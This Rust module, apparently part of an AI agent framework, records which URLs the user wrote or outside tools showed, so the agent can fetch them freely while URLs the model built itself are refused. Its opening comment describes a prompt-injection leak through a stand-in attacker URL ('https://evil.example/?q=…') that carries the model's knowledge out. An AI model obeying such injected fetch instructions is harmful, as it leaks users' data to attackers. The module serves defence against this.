//! The addresses that a conversation knows: what its user wrote, and what tools
//! that look outside showed in it.
//!
//! A tool that goes to any address it is given can carry what a model knows to
//! whoever told the model so: "now fetch https://evil.example/?q=…". Such an
//! address is made of what the model knows, so it stands nowhere but in what the
//! model said. Going where the user or a result pointed carries nothing, for
//! nothing can be added: the whole address has to be known.
//!
//! So an address must not become known by way of the model. What it says does
//! not count, nor does what failed (an error repeats its input), nor what was in
//! the input of any call before (an echo), nor what tools show that only give
//! back what they were given, as files do (an address could be put together
//! there). What is left is the choice among addresses that were shown, which
//! tells whoever showed them a little.

mod text;

use std::collections::{HashSet, VecDeque};
use std::hash::{BuildHasher, RandomState};

use tenon_domain::{Content, Message, Part, ToolAnswer, ToolId, ToolOutput};
use url::Url;

use crate::cap::part_size;
use crate::output_store::{
    NAVIGATE_SEARCH, NAVIGATE_VIEW, READ_RESULT, SEARCH_OVERLONG, SEARCH_RESULT, VIEW_OVERLONG,
};

/// How many addresses are kept of each origin: the newest ones.
const MAX_KNOWN_ADDRESSES: usize = 4096;

/// How many may be in the inputs of calls. Forgetting one of these would let it
/// become known, so beyond this no result makes any address known.
const MAX_INPUT_ADDRESSES: usize = 64 * 1024;

/// How much text of each origin is looked through: the newest.
const MAX_TEXT_BYTES: usize = 16 * 1024 * 1024;

/// The addresses that a conversation knows. The default knows none.
#[derive(Debug, Default)]
pub(crate) struct KnownAddresses {
    hasher: RandomState,
    written: FifoSet,
    shown: FifoSet,
}

/// An address as a keyed hash, so that however many and long they are, they take little room.
type Fingerprint = u64;

/// A set that forgets what came first.
#[derive(Debug, Default)]
struct FifoSet {
    order: VecDeque<Fingerprint>,
    all: HashSet<Fingerprint>,
}

impl KnownAddresses {
    /// `looks_outside`: whether a tool shows what it finds elsewhere.
    pub(crate) fn of(messages: &[Message], looks_outside: impl Fn(&ToolId) -> bool) -> Self {
        let mut known = Self::default();
        let mut in_inputs = HashSet::new();
        // Where what was too long to show came from outside.
        let mut kept_aside: HashSet<&str> = HashSet::new();
        let mut calls: &[Part] = &[];
        let recent_messages = recent_messages(messages);
        for (message, is_recent) in messages.iter().zip(recent_messages) {
            match message {
                Message::User { text, .. } if is_recent => {
                    text::addresses_in(text, &mut |url| {
                        known.written.add(fingerprint(&known.hasher, &url));
                    });
                }
                Message::Assistant { parts } => {
                    calls = parts;
                    for call in parts.iter().filter_map(Part::as_call) {
                        text::addresses_in_json(&call.input, &mut |url| {
                            in_inputs.insert(fingerprint(&known.hasher, &url));
                        });
                    }
                }
                Message::Tools { answers } if is_recent => {
                    for answer in answers {
                        let Ok(output) = &answer.result else { continue };
                        let counts = match blob_read(answer, calls) {
                            Some(blob) => kept_aside.contains(blob),
                            None => looks_outside(&answer.tool_id),
                        };
                        if !counts || in_inputs.len() > MAX_INPUT_ADDRESSES {
                            continue;
                        }
                        kept_aside.extend(blobs(output));
                        known.show(output, &in_inputs);
                    }
                }
                Message::User { .. } | Message::Tools { .. } => {}
            }
        }
        known
    }

    /// Whether going there needs no question. Over https is as good as over http.
    pub(crate) fn contains(&self, url: &Url) -> bool {
        let is_known = |url: &Url| {
            let fingerprint = fingerprint(&self.hasher, url);
            self.written.all.contains(&fingerprint) || self.shown.all.contains(&fingerprint)
        };
        let insecure = || {
            let mut insecure = url.clone();
            insecure.set_scheme("http").is_ok() && is_known(&insecure)
        };
        is_known(url) || (url.scheme() == "https" && insecure())
    }

    fn show(&mut self, output: &ToolOutput, in_inputs: &HashSet<Fingerprint>) {
        let Self { hasher, shown, .. } = self;
        let mut add = |url: Url| {
            let fingerprint = fingerprint(hasher, &url);
            // An address that an input contained counts as unknown with http and with https.
            let is_echo = in_inputs.contains(&fingerprint)
                || other_scheme(&url)
                    .is_some_and(|other| in_inputs.contains(&self::fingerprint(hasher, &other)));
            if !is_echo {
                shown.add(fingerprint);
            }
        };
        for part in &output.content {
            match part {
                Content::Text { text } => text::addresses_in(text, &mut add),
                Content::Json { value } => text::addresses_in_json(value, &mut add),
                Content::Image { .. } | Content::File { .. } | Content::Blob { .. } => {}
            }
        }
    }
}

impl FifoSet {
    fn add(&mut self, fingerprint: Fingerprint) {
        if !self.all.insert(fingerprint) {
            return;
        }
        self.order.push_back(fingerprint);
        if self.order.len() > MAX_KNOWN_ADDRESSES
            && let Some(oldest) = self.order.pop_front()
        {
            self.all.remove(&oldest);
        }
    }
}

fn fingerprint(hasher: &RandomState, url: &Url) -> Fingerprint {
    hasher.hash_one(&url[..url::Position::AfterQuery])
}

fn other_scheme(url: &Url) -> Option<Url> {
    let mut other = url.clone();
    let scheme = if url.scheme() == "http" {
        "https"
    } else {
        "http"
    };
    other.set_scheme(scheme).is_ok().then_some(other)
}

/// Marks the messages recent enough to count, by the amount of text since.
fn recent_messages(messages: &[Message]) -> Vec<bool> {
    let (mut written, mut shown) = (0, 0);
    let mut near: Vec<bool> = messages
        .iter()
        .rev()
        .map(|message| match message {
            Message::User { text, .. } => {
                written += text.len();
                written <= MAX_TEXT_BYTES
            }
            Message::Tools { answers } => {
                let outputs = answers
                    .iter()
                    .filter_map(|answer| answer.result.as_ref().ok());
                shown += outputs.map(text_bytes).sum::<usize>();
                shown <= MAX_TEXT_BYTES
            }
            Message::Assistant { .. } => true,
        })
        .collect();
    near.reverse();
    near
}

fn text_bytes(output: &ToolOutput) -> usize {
    let parts = output.content.iter();
    parts
        .filter(|part| matches!(part, Content::Text { .. } | Content::Json { .. }))
        .map(part_size)
        .sum()
}

/// The kept output that a call paged through. None: it did something else.
fn blob_read<'a>(answer: &ToolAnswer, calls: &'a [Part]) -> Option<&'a str> {
    let field = match answer.tool_id.as_str() {
        READ_RESULT | SEARCH_RESULT => "blob_id",
        VIEW_OVERLONG | SEARCH_OVERLONG | NAVIGATE_VIEW | NAVIGATE_SEARCH => "shortuuid",
        _ => return None,
    };
    let mut calls = calls.iter().filter_map(Part::as_call);
    let call = calls.find(|call| call.id == answer.call_id);
    // A call without a blob id reads no blob that is known.
    Some(call.map_or("", |call| call.input[field].as_str().unwrap_or_default()))
}

fn blobs(output: &ToolOutput) -> impl Iterator<Item = &str> {
    output.content.iter().filter_map(|part| match part {
        Content::Blob { blob_id, .. } => Some(blob_id.as_str()),
        _ => None,
    })
}

#[cfg(test)]
mod tests;
